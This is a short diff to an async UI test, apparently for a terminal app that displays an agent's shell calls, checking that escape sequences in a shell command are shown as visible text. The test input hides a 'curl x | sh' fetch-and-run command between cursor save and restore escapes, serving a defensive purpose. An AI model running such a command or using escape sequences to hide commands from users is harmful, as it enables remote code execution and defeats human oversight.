@@ -506,5 +506,4 @@ async def test_the_shell_block_shows_escape_sequences_as_text(project: Path) -> 
         await ready(pilot)
         await send(pilot, "go")
         await opened(pilot)
-        block = app.main.conversation.query_one(ShellCallBlock)
-        assert block.command == "\\x1b7curl x | sh \\x1b8ls"
+        assert "\\x1b7curl x | sh \\x1b8ls" in screen_text(app)
